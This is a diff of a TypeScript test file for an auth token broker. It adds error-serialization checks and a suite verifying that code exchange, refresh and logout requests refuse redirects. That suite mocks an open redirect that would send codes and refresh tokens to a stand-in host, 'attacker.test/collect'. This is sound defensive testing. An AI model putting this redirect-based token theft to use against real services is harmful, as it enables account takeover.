@@ -548,7 +548,6 @@ describe('serializeError / deserializeError', () => {
 
 	it.each([
 		['RefreshUnavailableError', () => new RefreshUnavailableError('the token endpoint answered 503'), RefreshUnavailableError],
-		['BrokerTimeoutError', () => new BrokerTimeoutError('refresh', 15_000), BrokerTimeoutError],
 		['ProtocolError', () => new ProtocolError('"type" is missing'), ProtocolError],
 	] as const)('%s keeps class and message', (name, make, type) => {
 		const original = make()
@@ -560,6 +559,10 @@ describe('serializeError / deserializeError', () => {
 	})
 
 	it('other errors keep name and message; non-errors become Error', () => {
+		// The page's own wait gives BrokerTimeoutError; none ever comes from the broker, so none is rebuilt.
+		const timeout = travel(new BrokerTimeoutError('refresh', 15_000))
+		expect(timeout).not.toBeInstanceOf(TokenBrokerError)
+		expect(timeout.name).toBe('BrokerTimeoutError')
 		const copy = travel(new RangeError('boom'))
 		expect(copy.name).toBe('RangeError')
 		expect(copy.message).toBe('boom')
@@ -571,5 +574,86 @@ describe('serializeError / deserializeError', () => {
 	it('serialized errors are plain data with no cause or stack', () => {
 		const serialized = serializeError(new LoginFailedError('x', { status: 400, oauthError: 'e', cause: new Error('secret detail') }))
 		expect(serialized).toEqual({ name: 'LoginFailedError', message: 'x', status: 400, oauthError: 'e' })
+	})
+})
+
+describe('no redirects on token-endpoint and exchange requests', () => {
+	const ATTACKER = 'https://attacker.test/collect'
+
+	/** A browser's answer to redirect: 'manual' (status 0, type 'opaqueredirect'), which Response cannot be built as. */
+	function opaqueRedirect(): Response {
+		return Object.defineProperty(Response.error(), 'type', { value: 'opaqueredirect' })
+	}
+
+	/**
+	 * fetch as a browser runs it against endpoints behind an open redirect (307, so method and body
+	 * go along): followed unless the request says otherwise, into an attacker's hands.
+	 */
+	function behindOpenRedirect(manual: () => Response) {
+		const stolen: RequestInit[] = []
+		fetchMock.mockImplementation(async (input, init = {}) => {
+			if (String(input) === ATTACKER) {
+				stolen.push(init)
+				return json(200, { access_token: 'ATTACKER-A', refresh_token: 'ATTACKER-R', expires_in: 3600 })
+			}
+			if (init.redirect === 'error') throw new TypeError('Failed to fetch')
+			if (init.redirect === 'manual') return manual()
+			return fetchMock(ATTACKER, init)
+		})
+		return stolen
+	}
+
+	for (const [shape, manual] of [['a browser', opaqueRedirect], ['Node', () => new Response(null, { status: 307, headers: { location: ATTACKER } })]] as const) {
+		it(`exchange() does not follow a redirect, sends the code nowhere else and adopts no tokens (${shape})`, async () => {
+			const stolen = behindOpenRedirect(manual)
+			const error = await exchangeWith()({ url: 'https://app.test/login?next=//attacker.test', body: { code: 'c', code_verifier: 'v', password: 'p' } }, signal()).catch((e: unknown) => e)
+			expect(error).toBeInstanceOf(LoginFailedError)
+			expect((error as Error).message).toMatch(/redirect/)
+			expect(stolen).toEqual([])
+		})
+
+		it(`a refresh does not follow a redirect: the refresh token goes nowhere else, and the session is kept (${shape})`, async () => {
+			const stolen = behindOpenRedirect(manual)
+			for (const refresh of [oauth2Refresh({ tokenEndpoint: TOKEN_ENDPOINT, clientId: 'spa' }), cookieRefresh({ url: '/auth/refresh' })]) {
+				const error = await refresh({ refreshToken: 'R1', signal: signal() }).catch((e: unknown) => e)
+				expect(error).toBeInstanceOf(RefreshUnavailableError)
+				expect((error as Error).message).toMatch(/redirect/)
+			}
+			expect(stolen).toEqual([])
+		})
+
+		it(`a server logout does not follow a redirect with the refresh token (${shape})`, async () => {
+			const stolen = behindOpenRedirect(manual)
+			const refresh = oauth2Refresh({ tokenEndpoint: TOKEN_ENDPOINT, clientId: 'spa', revocationEndpoint: 'https://idp.test/oauth/revoke' })
+			await expect(refresh.logout!({ refreshToken: 'R1', signal: signal() })).rejects.toThrow(/redirect/)
+			await expect(cookieRefresh({ url: '/auth/refresh', logoutUrl: '/auth/logout' }).logout!({ signal: signal() })).rejects.toThrow(/redirect/)
+			expect(stolen).toEqual([])
+		})
+	}
+})
+
+describe('errors reach the page whole (issue 17)', () => {
+	function travel(error: unknown): Error {
+		const parsed = readBrokerMessage(structuredClone(envelope({ type: 'reply', ok: false, error: serializeError(error) })))
+		if (parsed.kind !== 'ok' || parsed.message.type !== 'reply' || parsed.message.ok) throw new Error('not an error reply')
+		return deserializeError(parsed.message.error)
+	}
+
+	it("RefreshUnavailableError's status and retryAfterMs reach the page, with its detail and retryAt", () => {
+		const original = new RefreshUnavailableError('the token endpoint answered 503', { status: 503, retryAfterMs: 30_000, retryAt: 1_800_000_000_000 })
+		const copy = travel(original) as RefreshUnavailableError
+		expect(copy).toBeInstanceOf(RefreshUnavailableError)
+		expect({ status: copy.status, retryAfterMs: copy.retryAfterMs, retryAt: copy.retryAt, detail: copy.detail, message: copy.message })
+			.toEqual({ status: 503, retryAfterMs: 30_000, retryAt: 1_800_000_000_000, detail: 'the token endpoint answered 503', message: original.message })
+	})
+
+	it('each class is built by its own constructor: it gets only its own fields, whatever else the answer carries', () => {
+		const loggedOut = deserializeError({ name: 'LoggedOutError', message: 'The session is over (user).', reason: 'user', generation: 7, status: 500, oauthError: 'x', retryAt: 1 })
+		expect(loggedOut).toBeInstanceOf(LoggedOutError)
+		expect({ ...loggedOut }).toEqual({ ...new LoggedOutError('user', { generation: 7 }) })
+		const login = deserializeError({ name: 'LoginFailedError', message: 'refused', status: 400, reason: 'user', retryAt: 1 })
+		expect({ ...login }).toEqual({ ...new LoginFailedError('refused', { status: 400 }) })
+		const protocol = travel(new ProtocolError('"type" is missing'))
+		expect({ ...protocol }).toEqual({ ...new ProtocolError('"type" is missing') })
 	})
 })
